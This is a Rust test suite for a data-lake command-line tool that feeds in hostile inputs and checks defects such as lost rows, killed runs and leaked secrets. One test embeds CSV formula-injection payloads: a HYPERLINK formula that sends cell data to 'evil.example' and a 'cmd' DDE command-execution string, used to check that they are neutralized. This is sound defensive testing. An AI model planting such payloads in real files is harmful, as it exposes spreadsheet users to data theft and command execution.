//! Hostile and broken inputs through the real binary: every defect a hostile-user review
//! confirmed (rows lost, processes killed, values leaked, exit 0) as a test that failed before
//! the fix.

use std::path::Path;
use std::process::Command;

use super::{manifests, ok, shopflow, snapshot};

const TX_HEADER: &str =
    "transaction_id,customer_id,product_id,quantity,unit_price,transaction_date\n";

fn tx_rows(prefix: &str, n: usize, day: &str) -> String {
    let mut body = String::from(TX_HEADER);
    for i in 0..n {
        body.push_str(&format!("{prefix}{i},C1,P1,1,2.50,{day}T10:00:00Z\n"));
    }
    body
}

fn silver_count(lake: &str, table: &str) -> u64 {
    let out = ok(&[
        "query",
        "--lake",
        lake,
        "--format",
        "json",
        &format!("SELECT COUNT(*) AS n FROM {table}"),
    ]);
    let rows: Vec<serde_json::Value> = serde_json::from_str(&out).unwrap();
    rows[0]["n"].as_u64().unwrap()
}

#[test]
fn two_different_files_landing_under_one_name_are_refused_before_anything_is_copied() {
    let dir = tempfile::tempdir().unwrap();
    let lake = dir.path().join("lake");
    let lake_s = lake.to_str().unwrap();
    for (folder, prefix) in [("a", "A"), ("b", "B")] {
        std::fs::create_dir_all(dir.path().join(folder)).unwrap();
        std::fs::write(
            dir.path().join(folder).join("transactions.csv"),
            tx_rows(prefix, 5, "2026-11-20"),
        )
        .unwrap();
    }
    let a = dir.path().join("a").to_str().unwrap().to_string();
    let b = dir.path().join("b").to_str().unwrap().to_string();
    let out = shopflow(&["ingest", "--lake", lake_s, &a, &b]);
    assert!(
        !out.status.success(),
        "two folders' transactions.csv must not pass"
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("collision") && err.contains("landing/transactions/transactions.csv"),
        "{err}"
    );
    assert!(
        !lake.join("landing").exists() || snapshot(&lake.join("landing")).is_empty(),
        "nothing copied"
    );

    // Names that only collide once a space is rewritten.
    let c = dir.path().join("c");
    std::fs::create_dir_all(&c).unwrap();
    std::fs::write(c.join("transactions 1.csv"), tx_rows("S", 3, "2026-11-20")).unwrap();
    std::fs::write(c.join("transactions_1.csv"), tx_rows("U", 3, "2026-11-20")).unwrap();
    let out = shopflow(&["ingest", "--lake", lake_s, c.to_str().unwrap()]);
    assert!(!out.status.success());

    // The same bytes twice are one object, not a collision; each distinct file's rows arrive.
    std::fs::write(
        dir.path().join("b").join("transactions.csv"),
        tx_rows("A", 5, "2026-11-20"),
    )
    .unwrap();
    ok(&["ingest", "--lake", lake_s, &a, &b]);
    assert_eq!(silver_count(lake_s, "transactions"), 5);
}

#[test]
fn an_unclosed_quote_costs_one_row_and_the_ten_thousand_after_it_reach_silver() {
    let dir = tempfile::tempdir().unwrap();
    let lake = dir.path().join("lake");
    let lake_s = lake.to_str().unwrap();
    let mut body = String::from(TX_HEADER);
    body.push_str("T-broken,C1,\"P1,1,2.50,2026-11-20T10:00:00Z\n");
    for i in 0..10_000 {
        body.push_str(&format!("T{i},C1,P1,1,2.50,2026-11-20T10:00:00Z\n"));
    }
    let file = dir.path().join("transactions.csv");
    std::fs::write(&file, body).unwrap();
    ok(&["ingest", "--lake", lake_s, file.to_str().unwrap()]);
    let m = &manifests(&lake)[0];
    assert_eq!(m["rows_in"], 10_001);
    assert_eq!(m["rows_silver"], 10_000);
    assert_eq!(m["rows_quarantined"], 1);
    assert_eq!(silver_count(lake_s, "transactions"), 10_000);
}

#[test]
fn a_sale_dated_9999_is_rejected_by_the_plausible_date_rule_and_the_report_still_runs() {
    let dir = tempfile::tempdir().unwrap();
    let lake = dir.path().join("lake");
    let lake_s = lake.to_str().unwrap();
    let mut body = tx_rows("T", 20, "2026-11-20");
    body.push_str("TX,C1,P1,1,2.50,9999-12-31T10:00:00Z\n");
    body.push_str("TY,C1,P1,1,2.50,+200000-01-01T10:00:00Z\n");
    let file = dir.path().join("transactions.csv");
    std::fs::write(&file, body).unwrap();
    ok(&["ingest", "--lake", lake_s, file.to_str().unwrap()]);
    let m = &manifests(&lake)[0];
    assert_eq!(m["rows_silver"], 20);
    let rejected = m["rejected_by_rule"].as_object().unwrap();
    let plausible = rejected
        .get("transactions.transaction_date.plausible")
        .and_then(serde_json::Value::as_u64)
        .unwrap_or(0);
    let unparsed = rejected
        .get("transactions.transaction_date.type")
        .and_then(serde_json::Value::as_u64)
        .unwrap_or(0);
    assert_eq!(plausible + unparsed, 2, "{rejected:?}");
    assert!(
        plausible >= 1,
        "9999-12-31 parses and is caught by the range: {rejected:?}"
    );
    let out = ok(&["report", "--lake", lake_s]);
    assert!(
        out.contains("2026-11-20"),
        "the default day is the real one: {out}"
    );
    let dates = ok(&[
        "query",
        "--lake",
        lake_s,
        "--format",
        "json",
        "SELECT CAST(MIN(calendar_date) AS VARCHAR) AS lo, CAST(MAX(calendar_date) AS VARCHAR) AS hi FROM dim_date",
    ]);
    assert!(
        !dates.contains("9999") && !dates.contains("200000"),
        "{dates}"
    );
}

/// A CSV cell a spreadsheet would execute.
fn executes(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.trim().parse::<f64>().is_err()
}

fn csv_cells(bytes: &[u8]) -> Vec<String> {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(bytes);
    r.records()
        .flat_map(|rec| rec.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

#[test]
fn report_and_query_csvs_neutralize_formula_cells_and_parquet_keeps_the_value() {
    let dir = tempfile::tempdir().unwrap();
    let lake = dir.path().join("lake");
    let lake_s = lake.to_str().unwrap();
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    let products = format!(
        "product_id,name,category,price\nP1,\"{}\",\"@SUM(1+1)\",2.50\nP2,\"+cmd|' /C calc'!A0\",-x,3.00\n",
        evil.replace('"', "\"\"")
    );
    std::fs::write(dir.path().join("products.csv"), products).unwrap();
    let mut tx = String::from(TX_HEADER);
    for i in 0..10 {
        tx.push_str(&format!(
            "T{i},C1,P{},1,2.50,2026-11-20T10:00:00Z\n",
            1 + i % 2
        ));
    }
    std::fs::write(dir.path().join("transactions.csv"), tx).unwrap();
    ok(&["ingest", "--lake", lake_s, dir.path().to_str().unwrap()]);
    ok(&["report", "--lake", lake_s, "--date", "2026-11-20"]);
    let report_dir = lake.join("reports/daily/date=2026-11-20");
    let mut seen_evil = false;
    for (name, bytes) in snapshot(&report_dir) {
        if !name.ends_with(".csv") {
            continue;
        }
        for cell in csv_cells(&bytes) {
            assert!(!executes(&cell), "{name}: {cell:?}");
            seen_evil |= cell == format!("'{evil}");
        }
    }
    assert!(
        seen_evil,
        "the product name is in a report CSV, neutralized"
    );
    let out = ok(&[
        "query",
        "--lake",
        lake_s,
        "--format",
        "csv",
        "SELECT name, category, price FROM products",
    ]);
    let cells = csv_cells(out.as_bytes());
    assert!(cells.iter().all(|c| !executes(c)), "{cells:?}");
    assert!(cells.contains(&format!("'{evil}")));
    // The table keeps the value as it came.
    let json = ok(&[
        "query",
        "--lake",
        lake_s,
        "--format",
        "json",
        "SELECT name FROM products WHERE product_id = 'P1'",
    ]);
    let rows: Vec<serde_json::Value> = serde_json::from_str(&json).unwrap();
    assert_eq!(rows[0]["name"], evil);
}

#[test]
fn eleven_hundred_event_days_stream_through_under_lambdas_open_file_limit() {
    let dir = tempfile::tempdir().unwrap();
    let lake = dir.path().join("lake");
    let mut body = String::from(TX_HEADER);
    let start = chrono::NaiveDate::from_ymd_opt(2023, 1, 1).unwrap();
    for i in 0..20_000u64 {
        let day = start + chrono::Days::new(i % 1100);
        body.push_str(&format!("T{i},C1,P1,1,2.50,{day}T10:00:00Z\n"));
    }
    let file = dir.path().join("transactions.csv");
    std::fs::write(&file, body).unwrap();
    let out = Command::new("sh")
        .arg("-c")
        .arg(format!(
            "ulimit -n 1024 && exec \"$0\" ingest --lake '{}' '{}'",
            lake.display(),
            file.display()
        ))
        .arg(env!("CARGO_BIN_EXE_shopflow"))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let m = &manifests(&lake)[0];
    assert_eq!(m["rows_silver"], 20_000);
    let days = ok(&[
        "query",
        "--lake",
        lake.to_str().unwrap(),
        "--format",
        "json",
        "SELECT COUNT(DISTINCT dt) AS d FROM transactions",
    ]);
    assert!(days.contains("1100"), "{days}");
}

#[test]
fn a_killed_ingest_leaves_nothing_that_blocks_or_duplicates_the_retry() {
    // Two kill points: while the file is being copied into landing (the first entry under
    // the lake's `.tmp/`, whatever it is called) and while it is being processed (its work
    // directory exists). Each run must really be killed (a test of a kill that never
    // happened proves nothing); the retry is not refused for 15 minutes by the dead run's
    // claim, removes what the dead run left, and leaves every row once.
    let names = |tmp: &Path| -> Vec<String> {
        std::fs::read_dir(tmp)
            .map(|d| {
                d.flatten()
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .collect()
            })
            .unwrap_or_default()
    };
    let copying = |n: &[String]| !n.is_empty();
    let processing = |n: &[String]| n.iter().any(|n| n.starts_with("shopflow-work-"));
    for (point, reached) in [
        (
            "copying into landing",
            &copying as &dyn Fn(&[String]) -> bool,
        ),
        ("processing", &processing),
    ] {
        let dir = tempfile::tempdir().unwrap();
        let lake = dir.path().join("lake");
        let lake_s = lake.to_str().unwrap();
        let file = dir.path().join("transactions.csv");
        std::fs::write(&file, tx_rows("K", 200_000, "2026-11-20")).unwrap();
        let mut child = Command::new(env!("CARGO_BIN_EXE_shopflow"))
            .args(["ingest", "--lake", lake_s])
            .arg(&file)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let tmp = lake.join(".tmp");
        let started = std::time::Instant::now();
        while !reached(&names(&tmp)) && started.elapsed() < std::time::Duration::from_secs(120) {
            if child.try_wait().unwrap().is_some() {
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(2));
        }
        let killed = child.try_wait().unwrap().is_none();
        child.kill().ok();
        child.wait().unwrap();
        assert!(killed, "{point}: the run ended before it could be killed");
        assert!(
            !names(&tmp).is_empty(),
            "{point}: the killed run left its work under .tmp/"
        );
        ok(&["ingest", "--lake", lake_s, file.to_str().unwrap()]);
        assert_eq!(
            names(&tmp),
            Vec::<String>::new(),
            "{point}: nothing of the dead run is left under .tmp/"
        );
        assert_eq!(silver_count(lake_s, "transactions"), 200_000, "{point}");
        ok(&["ingest", "--lake", lake_s, file.to_str().unwrap()]);
        assert_eq!(silver_count(lake_s, "transactions"), 200_000, "{point}");
    }
}

#[test]
fn secrets_in_arrays_and_under_common_spellings_never_pass_landing() {
    let dir = tempfile::tempdir().unwrap();
    let lake = dir.path().join("lake");
    let lake_s = lake.to_str().unwrap();
    // Each value is one no other byte of the lake can hold by chance: a bare "321" once
    // matched a timestamp in a ledger entry. The field *names* are what is under test.
    let secrets = [
        "4111111111111111",
        "GB82WEST12345698765432",
        "hunter2-pass",
        "pin-8642-secret",
        "cvv2-9753-secret",
        "5500005555555559",
        "4012888888881881",
        "account-12345678-secret",
        "security-code-321-secret",
        "s3cr3t-token-value",
    ];
    let users = serde_json::json!({ "users": [{
        "customer_id": "C1", "name": "Ann", "email": "ann@example.com", "country": "DE",
        "cards": [{ "cardNumber": secrets[0], "brand": "visa" }],
        "accounts": [{ "iban": secrets[1], "bank": "B" }],
        "pass": secrets[2], "pin": secrets[3], "cvv2": secrets[4],
        "card_no": secrets[5], "cc_num": secrets[6], "accountNumber": secrets[7],
        "securityCode": secrets[8], "profile": { "sessionToken": secrets[9] }
    }]});
    std::fs::write(dir.path().join("customers.json"), users.to_string()).unwrap();
    ok(&[
        "ingest",
        "--lake",
        lake_s,
        dir.path().join("customers.json").to_str().unwrap(),
    ]);
    for (name, bytes) in snapshot(&lake) {
        if name.starts_with("landing/") {
            continue;
        }
        let text = String::from_utf8_lossy(&bytes);
        for s in secrets {
            assert!(!text.contains(s), "{s} leaked into {name}");
        }
        // Parquet pages are compressed: look inside them too.
        if name.ends_with(".parquet") {
            let file = std::fs::File::open(lake.join(&name)).unwrap();
            let reader =
                parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder::try_new(file)
                    .unwrap()
                    .build()
                    .unwrap();
            for batch in reader {
                let batch = batch.unwrap();
                let text = format!("{batch:?}");
                for s in secrets {
                    assert!(!text.contains(s), "{s} leaked into {name}");
                }
            }
        }
    }
}

/// A small deterministic generator for the property test (xorshift64*): the test's records
/// must be the same on every run, and shapes the project's generator never makes.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
}

/// Every text a reader can take out of a file: its bytes, and for Parquet (data pages are
/// compressed) every decoded value.
fn readable_text(path: &Path) -> String {
    let mut text = String::from_utf8_lossy(&std::fs::read(path).unwrap()).into_owned();
    if path.extension().is_some_and(|e| e == "parquet") {
        let file = std::fs::File::open(path).unwrap();
        let reader = parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder::try_new(file)
            .unwrap()
            .build()
            .unwrap();
        for batch in reader {
            text.push_str(&format!("{:?}", batch.unwrap()));
        }
    }
    text
}

#[test]
fn ten_thousand_generated_records_leak_no_secret_anywhere_and_no_email_past_silver() {
    const DAY: &str = "2026-03-28";
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in");
    std::fs::create_dir_all(&input).unwrap();
    let lake = dir.path().join("lake");
    let lake_s = lake.to_str().unwrap();
    let mut rng = Rng(0x5eed_0012);
    // Secret field names as exports spell them; the contract declares none of these spellings
    // except through its secret words.
    let spellings = [
        "password",
        "pass",
        "pwd",
        "pin",
        "cvv",
        "cvv2",
        "cvc",
        "cardNumber",
        "card_no",
        "cc_num",
        "creditCard",
        "iban",
        "accountNumber",
        "account_no",
        "securityCode",
        "ssn",
        "apiKey",
        "api_key",
        "sessionToken",
        "access_token",
        "secret",
        "privateKey",
    ];
    let mut secrets: Vec<String> = Vec::new();
    let mut emails: Vec<String> = Vec::new();
    let mut customer_ids: Vec<String> = Vec::new();
    let mut users = Vec::new();
    for i in 0..2_000 {
        // One customer in ten has an email address as its id: personal data in a column the
        // contract classifies as public.
        let id = if i % 10 == 0 {
            format!("buyer{i}.{:x}@id-example.org", rng.next() % 0xffff)
        } else {
            format!("C{i:05}")
        };
        if id.contains('@') {
            emails.push(id.clone());
        }
        let email = format!("u{i}.{:x}@mail-example.net", rng.next() % 0xfffff);
        emails.push(email.clone());
        let mut user = serde_json::json!({
            "customer_id": id, "name": format!("Name {i}"), "email": email, "country": "DE",
            "signup_date": "2025-06-01"
        });
        for _ in 0..1 + rng.below(3) {
            let secret = format!("zq{:016x}", rng.next());
            secrets.push(secret.clone());
            let field = spellings[rng.below(spellings.len())];
            let leaf = serde_json::json!({ field: secret });
            // At any depth: top level, inside an object, inside an array of objects, inside
            // an array inside an object.
            let placed = match rng.below(4) {
                0 => leaf,
                1 => serde_json::json!({ "profile": leaf }),
                2 => serde_json::json!({ "wallet": [ { "brand": "visa" }, leaf ] }),
                _ => serde_json::json!({ "billing": { "methods": [ leaf ] } }),
            };
            let (k, v) = placed.as_object().unwrap().iter().next().unwrap();
            let slot = user.as_object_mut().unwrap();
            // Several secrets under one wrapper: merge rather than overwrite.
            match (slot.get_mut(k), v) {
                (Some(serde_json::Value::Array(a)), serde_json::Value::Array(b)) => {
                    a.extend(b.iter().cloned())
                }
                (Some(serde_json::Value::Object(a)), serde_json::Value::Object(b)) => {
                    for (bk, bv) in b {
                        a.insert(bk.clone(), bv.clone());
                    }
                }
                _ => {
                    slot.insert(k.clone(), v.clone());
                }
            }
        }
        customer_ids.push(user["customer_id"].as_str().unwrap().to_string());
        users.push(user);
    }
    std::fs::write(
        input.join("customers.json"),
        serde_json::json!({ "users": users }).to_string(),
    )
    .unwrap();
    // 8,000 sales over the month before DAY, with a card number in an undeclared column.
    let mut csv = String::from(
        "transaction_id,customer_id,product_id,quantity,unit_price,status,transaction_date,cc_num\n",
    );
    for i in 0..8_000 {
        let secret = format!("4{:015}", rng.next() % 1_000_000_000_000_000);
        secrets.push(secret.clone());
        let day = 1 + rng.below(28);
        csv.push_str(&format!(
            "T{i:06},{},P{},{},{}.00,completed,2026-03-{day:02}T10:00:00Z,{secret}\n",
            customer_ids[rng.below(customer_ids.len())],
            1 + rng.below(20),
            1 + rng.below(4),
            5 + rng.below(50),
        ));
    }
    std::fs::write(input.join("transactions.csv"), csv).unwrap();

    // Everything the pipeline says, at its most verbose.
    let mut logs = String::new();
    let mut step = |args: &[&str]| {
        let out = Command::new(env!("CARGO_BIN_EXE_shopflow"))
            .args(args)
            .env("SHOPFLOW_LOG", "shopflow=debug,shopflow_core=debug")
            .output()
            .unwrap();
        let text = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(out.status.success(), "{args:?}: {text}");
        logs.push_str(&text);
    };
    step(&[
        "ingest",
        "--lake",
        lake_s,
        input.join("customers.json").to_str().unwrap(),
    ]);
    step(&[
        "ingest",
        "--lake",
        lake_s,
        input.join("transactions.csv").to_str().unwrap(),
    ]);
    step(&["run", "--lake", lake_s, "--date", DAY]);
    assert_eq!(
        secrets.len(),
        secrets
            .iter()
            .collect::<std::collections::HashSet<_>>()
            .len()
    );
    assert!(secrets.len() > 10_000 && emails.len() == 2_200);

    let files = snapshot(&lake);
    assert!(
        files.keys().any(|k| k.starts_with("gold/")),
        "gold was built"
    );
    assert!(
        files.keys().any(|k| k.starts_with("_notifications/")),
        "a notification was sent"
    );
    assert!(
        files.keys().any(|k| k.starts_with("reports/")),
        "a report was written"
    );
    let mut masked_ids = 0;
    for name in files.keys() {
        if name.starts_with("landing/") {
            continue;
        }
        let text = readable_text(&lake.join(name));
        for s in &secrets {
            assert!(!text.contains(s.as_str()), "secret {s} leaked into {name}");
        }
        // Past silver (gold, reports, notifications, manifests, the ledger), no address in
        // clear: neither the pii column nor the ids that are addresses.
        let personal_allowed = name.starts_with("bronze/")
            || name.starts_with("silver/")
            || name.starts_with("quarantine/");
        if !personal_allowed {
            for e in &emails {
                assert!(!text.contains(e.as_str()), "email {e} leaked into {name}");
            }
        }
        if name.starts_with("gold/") {
            masked_ids += text.matches("@id-example.org~").count();
        }
    }
    assert!(
        masked_ids > 0,
        "the address ids reach gold masked, not dropped"
    );
    for s in &secrets {
        assert!(
            !logs.contains(s.as_str()),
            "secret {s} leaked into the logs"
        );
    }
    for e in &emails {
        assert!(!logs.contains(e.as_str()), "email {e} leaked into the logs");
    }
}

/// Runs `shopflow` with `args` under Lambda's open-file limit (1,024) through a Python parent
/// that reports the child's peak resident size (`ru_maxrss`), in KiB. `env` is added to the
/// child's environment.
fn peak_kib(args: &[&str], env: &[(&str, &str)]) -> u64 {
    const PARENT: &str = "import resource, subprocess, sys\n\
        resource.setrlimit(resource.RLIMIT_NOFILE, (1024, 1024))\n\
        r = subprocess.run(sys.argv[1:], stdout=subprocess.DEVNULL)\n\
        print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)\n\
        sys.exit(r.returncode)\n";
    let out = Command::new("python3")
        .arg("-c")
        .arg(PARENT)
        .arg(env!("CARGO_BIN_EXE_shopflow"))
        .args(args)
        .env_remove("SHOPFLOW_CONTRACTS")
        .envs(env.iter().copied())
        .output()
        .expect("python3 is needed to measure peak memory: install Python 3 (apt install python3)");
    assert!(
        out.status.success(),
        "shopflow {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().parse().unwrap()
}

/// A sales file of `rows` rows spread over `days` event days, keys prefixed with `prefix`.
fn sales_over_days(path: &Path, prefix: &str, rows: u64, days: u64) {
    use std::io::Write;
    let mut out = std::io::BufWriter::new(std::fs::File::create(path).unwrap());
    out.write_all(TX_HEADER.as_bytes()).unwrap();
    let start = chrono::NaiveDate::from_ymd_opt(2016, 11, 23).unwrap();
    for i in 0..rows {
        let day = start + chrono::Days::new(i % days);
        writeln!(
            out,
            "{prefix}{i:09},C{:06},P{:05},{},{}.{:02},{day}T{:02}:{:02}:00Z",
            i % 100_003,
            i % 5_003,
            1 + i % 4,
            1 + i % 300,
            i % 100,
            i % 24,
            i % 60
        )
        .unwrap();
    }
    out.flush().unwrap();
}

#[test]
fn peak_memory_does_not_grow_with_the_file_or_its_years_under_lambdas_open_file_limit() {
    // Item 8's flatness in the test command, at sizes a debug build gets through in seconds.
    // Flat means: once a file is past every configured bound, more rows or more event days
    // cost time, not memory. So all three runs use the same bounds, scaled down so that the
    // smallest file is already past them (50,000 keys in memory: the 250,000-row file spills
    // five times; 32 days per MERGE, so ten years is 115 commits, not 913), and a file four
    // times larger, or one over ten years of event days (3,650), must not raise the peak by
    // more than a fifth. That catches memory that follows the rows or the days (the filed
    // 553 MB at 1M rows, one MERGE of 3,650 days at 1.84 GB); at these sizes the glibc
    // retention of ADR 0014 is within the margin (defaults measured +10 %, fixed +5 %), which
    // the multi-GB runs show instead (`SHOPFLOW_MEMORY_ROWS` raises the base size; README).
    let base: u64 = std::env::var("SHOPFLOW_MEMORY_ROWS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(250_000);
    let dir = tempfile::tempdir().unwrap();
    let mut peaks = Vec::new();
    for (name, rows, days) in [
        ("small", base, 90),
        ("large", base * 4, 90),
        ("years", base, 3_650),
    ] {
        let file = dir.path().join(format!("{name}.csv"));
        sales_over_days(&file, &name[..1].to_uppercase(), rows, days);
        let lake = dir.path().join(format!("lake-{name}"));
        let peak = peak_kib(
            &[
                "ingest",
                "--lake",
                lake.to_str().unwrap(),
                "--dataset",
                "transactions",
                "--merge-max-days",
                "32",
                "--key-memory-entries",
                "50000",
                file.to_str().unwrap(),
            ],
            &[],
        );
        let m = &manifests(&lake)[0];
        assert_eq!(m["rows_in"], rows, "{name}: {m}");
        assert_eq!(
            m["rows_silver"].as_u64().unwrap() + m["rows_quarantined"].as_u64().unwrap(),
            rows,
            "{name}: {m}"
        );
        eprintln!(
            "{name}: {rows} rows over {days} days, peak {} MiB",
            peak / 1024
        );
        peaks.push(peak);
    }
    let (small, large, years) = (peaks[0], peaks[1], peaks[2]);
    assert!(
        large <= small + small / 5,
        "4x the rows raised the peak from {small} to {large} KiB"
    );
    assert!(
        years <= small + small / 5,
        "3,650 event days raised the peak from {small} to {years} KiB"
    );
}
